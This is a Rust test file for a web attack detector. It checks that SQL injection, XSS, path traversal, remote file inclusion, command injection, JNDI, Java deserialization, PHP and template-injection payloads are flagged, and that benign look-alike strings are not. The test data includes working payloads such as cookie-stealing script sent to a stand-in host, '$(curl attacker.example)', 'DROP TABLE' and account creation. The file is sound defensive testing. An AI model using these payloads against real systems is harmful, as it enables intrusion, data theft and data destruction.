//! Attack and hard benign cases per family, each carried through every location.

mod common;

use common::{Via, assert_attack, assert_attack_via, assert_benign, engine};
use palisade_detect::Family;

#[test]
fn sqli_attacks() {
    let e = engine(1);
    let cases: &[(&str, Option<&str>)] = &[
        ("' or 1=1--", None),
        ("x' OR 'k'='k", None),
        ("7 AND 3>2", None),
        ("nobody\" or \"b\"=\"b", None),
        (
            "0 UNION ALL SELECT username, pass FROM accounts",
            Some("sqli-union-select"),
        ),
        ("-3) UNION/**/SELECT 1,2,3-- -", Some("sqli-union-select")),
        ("9; DROP TABLE orders", Some("sqli-stacked-query")),
        ("5'; EXEC xp_cmdshell 'dir'--", Some("sqli-mssql-procedure")),
        ("4 AND SLEEP(7)", Some("sqli-time-based")),
        ("1'; WAITFOR DELAY '0:0:9'--", Some("sqli-time-based")),
        ("2 || pg_sleep(8)", Some("sqli-time-based")),
        ("root'--", Some("sqli-comment-truncation")),
        ("guest' #", Some("sqli-comment-truncation")),
        (
            "8 and 1=(select count(*) from information_schema.columns)",
            Some("sqli-system-table"),
        ),
        (
            "' and extractvalue(0x3a,concat(0x3a,version()))-- ",
            Some("sqli-error-based"),
        ),
        ("1 order by 12-- ", None),
        ("%27%20or%20%27z%27%3D%27z", None),
        ("1%2527%2520or%25201%253D1--", None),
        ("1/*!50000union*/ /*!50000select*/ 1", None),
        ("') or ('p'='p", None),
        ("1 or true--", None),
    ];
    for (v, rule) in cases {
        assert_attack(&e, Family::Sqli, *rule, v);
    }
}

#[test]
fn sqli_benign() {
    let e = engine(1);
    for v in [
        "O'Brien",
        "Shaquille O'Neal",
        "rock 'n' roll",
        "select your size",
        "the union of two sets",
        "Drop me a line; thanks",
        "is 1=1 true?",
        "2 or 3 bedrooms",
        "'Rock' and 'Roll'",
        "it's -- as they say -- great",
        "john.doe+tag@example.com",
        "https://example.com/page?id=4&sort=asc",
        "SGVsbG8gd29ybGQhIHRoaXMgaXMgYmFzZTY0Lg==",
        "-12.5",
        "C# and F# are languages",
        "price >= 10 and <= 20",
        "In my SQL class we learnt how SELECT name FROM users WHERE id = 1 UNION SELECT works, see 'chapter 3'",
        "I'd like to order by Friday",
        "Fish & Chips; Salt & Vinegar",
        "We use information about your schema to...",
    ] {
        assert_benign(&e, v);
    }
}

#[test]
fn xss_attacks() {
    let e = engine(1);
    let cases: &[(&str, Option<&str>)] = &[
        (
            "<script>fetch('//x.example/'+document.cookie)</script>",
            Some("xss-script-tag"),
        ),
        (
            "<ScRiPt src=//evil.example/a.js></sCrIpT>",
            Some("xss-script-tag"),
        ),
        ("<img src=x onerror=print()>", Some("xss-event-handler")),
        ("<svg/onload=confirm`1`>", Some("xss-event-handler")),
        ("<details open ontoggle=go()>", Some("xss-event-handler")),
        ("<body onpageshow=run()>", Some("xss-event-handler")),
        ("\" onmouseover=\"steal()", Some("xss-event-handler")),
        ("' autofocus onfocus='x()", Some("xss-event-handler")),
        ("\"><iframe src=//evil.example>", None),
        ("<object data=evil.swf>", Some("xss-dangerous-tag")),
        ("<embed src=x.svg>", Some("xss-dangerous-tag")),
        ("javascript:void(go())", Some("xss-script-uri")),
        ("java&#x09;script&colon;run()", Some("xss-script-uri")),
        ("jav&#x0A;ascript:run()", Some("xss-script-uri")),
        ("<a href=\"javascript:run()\">x</a>", Some("xss-script-uri")),
        ("data:text/html;base64,PHNjcmlwdD4=", Some("xss-script-uri")),
        (
            "<div style=\"width: expression(run())\">",
            Some("xss-css-expression"),
        ),
        ("<iframe srcdoc=\"&lt;b&gt;\">", None),
        (
            "%253Cscript%253Ego()%253C/script%253E",
            Some("xss-script-tag"),
        ),
        ("&lt;img src=1 onerror=go()&gt;", Some("xss-event-handler")),
        ("'><b>hi</b>", Some("xss-attribute-breakout")),
    ];
    for (v, rule) in cases {
        assert_attack(&e, Family::Xss, *rule, v);
    }
}

#[test]
fn xss_benign() {
    let e = engine(1);
    for v in [
        "a < b > c",
        "if (a<b) { return c>d; }",
        "**bold** and _italic_ in markdown, see [link](https://example.com)",
        "I ❤️ emoji 🎉",
        "JavaScript: The Good Parts",
        "Use the onload event in your own code",
        "x <= y and y >= z",
        "the expression (a+b) is fine",
        "<3 you",
        "Q&A: one online session",
    ] {
        assert_benign(&e, v);
    }
}

#[test]
fn traversal_attacks() {
    let e = engine(1);
    let cases: &[(&str, Option<&str>)] = &[
        ("../../../../etc/passwd", Some("lfi-dot-dot-slash")),
        ("..\\..\\..\\windows\\win.ini", Some("lfi-system-file")),
        (
            "%2e%2e%2f%2e%2e%2fetc%2fshadow",
            Some("lfi-encoded-dot-dot"),
        ),
        ("%252e%252e%252fboot.ini", Some("lfi-encoded-dot-dot")),
        ("..%c0%af..%c0%afetc/hosts", Some("lfi-dot-dot-slash")),
        ("....//....//etc/group", Some("lfi-dot-dot-slash")),
        ("/proc/self/environ", Some("lfi-system-file")),
        (
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
            Some("lfi-system-file"),
        ),
        ("file:///etc/issue", Some("lfi-stream-wrapper")),
        ("phar://uploads/x.jpg/shell", Some("lfi-stream-wrapper")),
        ("expect://id", Some("lfi-stream-wrapper")),
        ("%u002e%u002e%u2215secret", None),
    ];
    for (v, rule) in cases {
        assert_attack(&e, Family::Traversal, *rule, v);
    }
}

#[test]
fn traversal_benign() {
    let e = engine(1);
    for v in [
        "see the docs...",
        "wait... what?",
        "v1.2.3",
        "my/etc/notes",
        "a/b/c.txt",
        "Etc. and so on",
        "file name.txt",
    ] {
        assert_benign(&e, v);
    }
}

#[test]
fn rfi_attacks() {
    let e = engine(1);
    for v in [
        "http://evil.example/shell.txt?",
        "ftp://files.example/payload.php",
        "http://evil.example/inc.php%00",
    ] {
        // Headers are not parameters: a Referer is a URL by design.
        assert_attack_via(
            &e,
            &[
                Via::Query,
                Via::Form,
                Via::Json,
                Via::Cookie,
                Via::Multipart,
            ],
            Family::Rfi,
            None,
            v,
        );
    }
}

#[test]
fn rfi_ip_host_is_an_error_not_a_block() {
    let e = engine(1);
    let (req, loc) = common::carry(Via::Query, "https://203.0.113.9/x");
    let v = req.inspect(&e);
    assert!(
        v.findings
            .iter()
            .any(|f| f.rule == "rfi-ip-host" && f.location == loc),
        "{v:#?}"
    );
    assert!(!v.over_threshold);
}

#[test]
fn rfi_benign() {
    let e = engine(1);
    for v in [
        "https://example.com/page",
        "https://shop.example/cart?item=5",
        "http://docs.example/guide.html",
    ] {
        assert_benign(&e, v);
    }
}

#[test]
fn cmdi_attacks() {
    let e = engine(1);
    let cases: &[(&str, Option<&str>)] = &[
        ("127.0.0.1; cat /etc/hostname", None),
        ("x | whoami", Some("cmdi-separator-command")),
        ("a && uname -a", Some("cmdi-separator-command")),
        ("1\nid", Some("cmdi-separator-command")),
        ("foo || ping -c 3 10.0.0.1", Some("cmdi-separator-command")),
        ("$(curl attacker.example)", Some("cmdi-substitution")),
        ("`whoami`", Some("cmdi-substitution")),
        (";cat${IFS}/etc/hosts", Some("cmdi-ifs")),
        ("w\"h\"o\"am\"i", Some("cmdi-quote-evasion")),
        ("c'a't /etc/hosts", Some("cmdi-quote-evasion")),
        ("\\u\\n\\a\\m\\e -a", Some("cmdi-quote-evasion")),
        ("x; /bin/sh -i", Some("cmdi-shell-invocation")),
        ("& cmd.exe /c dir", None),
        ("| powershell -enc SQBFAFgA", None),
        ("() { :; }; echo vulnerable", Some("cmdi-shellshock")),
        (
            "; net user hacker P4ss /add",
            Some("cmdi-separator-command"),
        ),
        ("| type C:\\boot.ini", None),
    ];
    for (v, rule) in cases {
        assert_attack(&e, Family::Cmdi, *rule, v);
    }
}

#[test]
fn cmdi_benign() {
    let e = engine(1);
    for v in [
        "Tom & Jerry",
        "cats; dogs",
        "Work hard; sleep well",
        "a | b | c table",
        "I'd say it's fine",
        "salt & pepper; oil",
        "Price: $5 (incl. tax)",
        "R&D | Sales & Marketing",
        "echo chamber",
        "type here",
    ] {
        assert_benign(&e, v);
    }
}

#[test]
fn jndi_java_php_attacks() {
    let e = engine(1);
    assert_attack(
        &e,
        Family::Jndi,
        Some("jndi-lookup"),
        "${jndi:ldap://evil.example/a}",
    );
    assert_attack(
        &e,
        Family::Jndi,
        Some("jndi-lookup"),
        "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    );
    assert_attack(
        &e,
        Family::Jndi,
        Some("jndi-lookup"),
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/b}",
    );
    assert_attack(
        &e,
        Family::Jndi,
        Some("jndi-lookup"),
        "${${env:NOPE:-j}ndi${env:NOPE:-:}dns://x.example}",
    );
    assert_attack(
        &e,
        Family::Jndi,
        None,
        "%24%7Bjndi%3Aldaps%3A%2F%2Fx.example%2Fz%7D",
    );
    assert_attack(
        &e,
        Family::JavaDeser,
        Some("java-serialized-object"),
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    );
    assert_attack(
        &e,
        Family::JavaDeser,
        Some("java-serialized-object"),
        "aced00057372",
    );
    assert_attack(
        &e,
        Family::JavaDeser,
        Some("java-gadget-class"),
        "java.lang.Runtime.getRuntime().exec('id')",
    );
    assert_attack(
        &e,
        Family::JavaDeser,
        None,
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
    );
    assert_attack(&e, Family::Php, Some("php-open-tag"), "<?php echo 1; ?>");
    assert_attack(&e, Family::Php, Some("php-dangerous-call"), "system('id');");
    assert_attack(
        &e,
        Family::Php,
        Some("php-dangerous-call"),
        "eval(base64_decode($_POST[z]))",
    );
    assert_attack(&e, Family::Php, Some("php-dangerous-call"), "phpinfo()");
    assert_attack(
        &e,
        Family::Php,
        Some("php-wrapper"),
        "php://filter/convert.base64-encode/resource=index",
    );
    assert_attack(
        &e,
        Family::Php,
        Some("php-object-injection"),
        "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    );
}

#[test]
fn jndi_java_php_benign() {
    let e = engine(1);
    for v in [
        "Price is ${price}",
        "java.util.List is an interface",
        "the system (as designed) works",
        "ROOAB is not base64 magic",
        "I use PHP 8",
        "The eval (evaluation) went well",
    ] {
        assert_benign(&e, v);
    }
}

/// Arithmetic probes and runtime access are attacks at paranoia 1 (changed: they used to need
/// paranoia 2); plain placeholders stay benign.
#[test]
fn ssti_probes_at_paranoia_one() {
    let pl1 = engine(1);
    let pl2 = engine(2);
    for v in [
        "{{7*7}}",
        "${13*17}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "<%= 6*9 %>",
        "#{3*3}",
        "{{config}}",
        "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
        "{{_self.env.getFilter('id')}}",
        "{{ [].__class__ }}",
        "{% import os %}",
        "<%= system('id') %>",
        "{{request|attr('application')}}",
    ] {
        assert_attack(&pl1, Family::Ssti, None, v);
        assert_attack(&pl2, Family::Ssti, None, v);
    }
    for v in [
        "Hello {{ name }}, your order {{ order.id }} ships {{ ship_date }}",
        "{% if user %}Hi {{ user.first_name }}{% endif %}",
        "Total: ${total}",
    ] {
        assert_benign(&pl1, v);
    }
}
